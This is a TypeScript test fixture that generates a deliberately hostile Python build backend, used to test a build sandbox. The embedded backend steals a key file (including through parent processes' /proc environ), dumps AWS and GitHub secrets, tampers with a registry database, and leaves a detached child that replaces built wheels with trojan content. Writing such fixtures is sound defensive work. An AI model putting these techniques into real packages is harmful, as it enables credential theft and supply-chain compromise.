// A fixture sdist whose in-tree backend (requires = []) is hostile: in each hook it tries every attack
// of issue #14 and prints what came of each as one line "HOSTILE-REPORT {json}" (the build log keeps
// it), then builds a real, small wheel. An attack that worked says "ok: ...", one that failed "failed: ...".

import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { makeSdist } from '../helpers/projects.js';

export interface HostileTargets {
  /** The key file's full path, as an attacker who knows the layout would guess it. */
  keyPath: string;
  /** SEALED_HOME, for the registry and the wheel store. */
  home: string;
  /** A listener on 127.0.0.1 (the test's index server). */
  port: number;
  /** A folder outside every sandbox where the attacks leave proof of success. */
  loot: string;
  /** Where `sealed build -o` writes the wheel. */
  outDir: string;
}

export const HOSTILE = { name: 'hostile-demo', version: '1.0.0' };

const CHILD = `
import glob, os, sys, time
home, out, loot = sys.argv[1:4]
deadline = time.time() + 30
while time.time() < deadline:
    stored = glob.glob(os.path.join(home, "**", "*.whl"), recursive=True)
    if stored:
        hits = stored + glob.glob(os.path.join(out, "*.whl"))
        time.sleep(0.3)
        for h in hits:
            with open(h, "wb") as f:
                f.write(b"trojan")
        with open(os.path.join(loot, "child-outlived-build"), "w") as f:
            f.write("\\n".join(hits))
        break
    time.sleep(0.05)
`;

function backendSource(t: HostileTargets): string {
  return `
import base64, hashlib, json, os, socket, sqlite3, subprocess, sys, zipfile

KEY_PATH = ${JSON.stringify(t.keyPath)}
HOME = ${JSON.stringify(t.home)}
PORT = ${t.port}
LOOT = ${JSON.stringify(t.loot)}
OUT = ${JSON.stringify(t.outDir)}
KEY_NAME = os.path.basename(KEY_PATH)
CHILD = ${JSON.stringify(CHILD)}


def steal(path):
    with open(path, "rb") as f:
        data = f.read()
    try:
        with open(os.path.join(LOOT, "stolen-" + hashlib.sha256(path.encode()).hexdigest()[:8]), "wb") as f:
            f.write(data)
    except OSError:
        pass
    return "ok: read %s sha256 %s" % (path, hashlib.sha256(data).hexdigest())


def key_by_path():
    return steal(KEY_PATH)


def key_by_env():
    home = os.environ.get("SEALED_HOME")
    if not home:
        raise LookupError("no SEALED_HOME")
    return steal(os.path.join(home, KEY_NAME))


def key_by_walking_up():
    d = os.getcwd()
    while True:
        for cand in (os.path.join(d, KEY_NAME), os.path.join(d, ".sealed", KEY_NAME)):
            if os.path.exists(cand):
                return steal(cand)
        if d == "/":
            raise LookupError("not found above " + os.getcwd())
        d = os.path.dirname(d)


def key_by_proc():
    # Up the parent chain, through /proc: Sealed's own process shows its environment there.
    pid = os.getppid()
    while pid > 1:
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\\0")
            with open("/proc/%d/stat" % pid) as f:
                parent = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        for item in env:
            if item.startswith(b"SEALED_HOME="):
                return steal(os.path.join(item[12:].decode(), KEY_NAME))
        pid = parent
    raise LookupError("no parent process shows SEALED_HOME")


def registry_write():
    db = sqlite3.connect("file:%s?mode=rw" % os.path.join(HOME, "registry.db"), uri=True)
    db.execute("CREATE TABLE hostile_was_here (x)")
    db.commit()
    db.close()
    return "ok: wrote registry.db"


def network():
    socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
    return "ok: connected to 127.0.0.1:%d" % PORT


def secret(name):
    def read():
        value = os.environ[name]
        return "ok: %s=%s" % (name, value)
    return read


ATTACKS = {
    "key_by_path": key_by_path,
    "key_by_env": key_by_env,
    "key_by_walking_up": key_by_walking_up,
    "key_by_proc": key_by_proc,
    "registry_write": registry_write,
    "network": network,
    "aws_secret": secret("AWS_SECRET_ACCESS_KEY"),
    "github_token": secret("GITHUB_TOKEN"),
}


def attack(hook):
    report = {"hook": hook}
    for name, fn in ATTACKS.items():
        try:
            report[name] = fn()
        except Exception as e:
            report[name] = "failed: %s: %s" % (type(e).__name__, e)
    print("HOSTILE-REPORT " + json.dumps(report), flush=True)


def get_requires_for_build_wheel(config_settings=None):
    attack("get_requires_for_build_wheel")
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack("build_wheel")
    dist = "hostile_demo-1.0.0"
    files = {
        "hostile_demo/__init__.py": b"VALUE = 'the wheel the backend returned'\\n",
        dist + ".dist-info/METADATA": b"Metadata-Version: 2.1\\nName: hostile-demo\\nVersion: 1.0.0\\n",
        dist + ".dist-info/WHEEL": b"Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (path, digest, len(data)))
    record.append(dist + ".dist-info/RECORD,,")
    name = dist + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, data in files.items():
            z.writestr(path, data)
        z.writestr(dist + ".dist-info/RECORD", "\\n".join(record) + "\\n")
    # A child in a new session that waits for the stored and published wheel and replaces both.
    subprocess.Popen([sys.executable, "-c", CHILD, HOME, OUT, LOOT], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
    return name


def build_sdist(sdist_directory, config_settings=None):
    raise RuntimeError("not needed")
`;
}

/**
 * The same backend behind the sealed-backend shim (its [tool.sealed] backend, in-tree): it also attacks
 * when its module is imported and in prepare_metadata_for_build_wheel. Returns the project folder.
 */
export function hostileShimProject(dir: string, t: HostileTargets): string {
  const project = join(dir, 'hostile-shim-project');
  mkdirSync(join(project, '_backend'), { recursive: true });
  writeFileSync(
    join(project, 'pyproject.toml'),
    `[build-system]\nrequires = ["sealed-backend"]\nbuild-backend = "sealed_backend"\n\n[project]\nname = "${HOSTILE.name}"\nversion = "${HOSTILE.version}"\n\n` +
      `[tool.sealed]\nbackend = "hostile_backend"\nbackend-path = ["_backend"]\n`,
  );
  const more = `

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    attack("prepare_metadata_for_build_wheel")
    d = os.path.join(metadata_directory, "hostile_demo-1.0.0.dist-info")
    os.makedirs(d)
    with open(os.path.join(d, "METADATA"), "w") as f:
        f.write("Metadata-Version: 2.1\\nName: hostile-demo\\nVersion: 1.0.0\\n")
    return os.path.basename(d)


attack("import")
`;
  writeFileSync(join(project, '_backend', 'hostile_backend.py'), backendSource(t) + more);
  return project;
}

/** Writes the hostile project and its sdist under `dir`; returns the sdist's path. */
export async function hostileSdist(dir: string, t: HostileTargets): Promise<string> {
  const project = join(dir, 'hostile-project');
  mkdirSync(join(project, '_backend'), { recursive: true });
  writeFileSync(
    join(project, 'pyproject.toml'),
    `[build-system]\nrequires = []\nbuild-backend = "hostile_backend"\nbackend-path = ["_backend"]\n\n[project]\nname = "${HOSTILE.name}"\nversion = "${HOSTILE.version}"\n`,
  );
  writeFileSync(join(project, '_backend', 'hostile_backend.py'), backendSource(t));
  return makeSdist(project, { backend: 'failing', ...HOSTILE }, join(dir, 'sdists'));
}

export type HostileReport = Record<string, string> & { hook: string };

/** Every HOSTILE-REPORT line of a build log, in order. */
export function hostileReports(log: string): HostileReport[] {
  return log
    .split('\n')
    .filter((l) => l.startsWith('HOSTILE-REPORT '))
    .map((l) => JSON.parse(l.slice('HOSTILE-REPORT '.length)) as HostileReport);
}

export const ATTACKS = ['key_by_path', 'key_by_env', 'key_by_walking_up', 'key_by_proc', 'registry_write', 'network', 'aws_secret', 'github_token'] as const;

/** A listener on 127.0.0.1 that counts the connections a backend manages to make to it. */
export interface CanaryListener {
  port: number;
  connections(): number;
  close(): Promise<void>;
}

export async function startCanaryListener(): Promise<CanaryListener> {
  let connections = 0;
  const listener = createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  return {
    port: (listener.address() as { port: number }).port,
    connections: () => connections,
    close: () => new Promise<void>((resolve) => listener.close(() => resolve())),
  };
}
